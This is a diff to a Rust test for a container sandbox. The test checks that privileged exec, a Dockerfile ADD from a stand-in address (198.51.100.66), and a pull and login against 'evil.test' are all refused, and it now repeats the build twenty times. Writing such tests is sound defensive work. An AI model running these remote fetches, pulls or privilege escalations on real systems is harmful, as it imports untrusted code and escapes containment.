@@ -149,6 +149,10 @@ pub(super) fn refused(stage: &Stage<'_>) -> Result<()> {
     exec_and_build(stage)
 }
 
+/// Builds that are tried: a client that still sends its files when the connection closes shows no refusal, now and
+/// then.
+const BUILDS: usize = 20;
+
 fn exec_and_build(stage: &Stage<'_>) -> Result<()> {
     stage
         .engine
@@ -167,8 +171,9 @@ fn exec_and_build(stage: &Stage<'_>) -> Result<()> {
         "docker run -d --name mine {IMAGE} sleep 60 >/dev/null\n\
          docker exec --privileged mine true; echo $?\n\
          docker exec mine grep CapBnd /proc/self/status\n\
+         head -c 3000000 /dev/urandom > large\n\
          printf 'FROM {IMAGE}\\nADD http://198.51.100.66:8080/ /x\\n' > Dockerfile\n\
-         docker build . ; echo $?\n\
+         for i in $(seq {BUILDS}); do docker build . ; echo $?; done\n\
          docker pull evil.test/x/y:1; echo $?\n\
          docker login -u u -p p evil.test; echo $?\n"
     );
@@ -185,7 +190,11 @@ fn exec_and_build(stage: &Stage<'_>) -> Result<()> {
         bounding & (1 << 13 | 1 << 27 | 1 << 21) == 0,
         "{bounding:x}"
     );
-    says(&said, "building with the engine is refused")?;
+    let refusals = said.matches("building with the engine is refused").count();
+    ensure!(
+        refusals == BUILDS,
+        "{refusals} of {BUILDS} builds were refused in words:\n{said}"
+    );
     says(
         &said,
         "the registry `evil.test:443` is refused: no rule allows it",
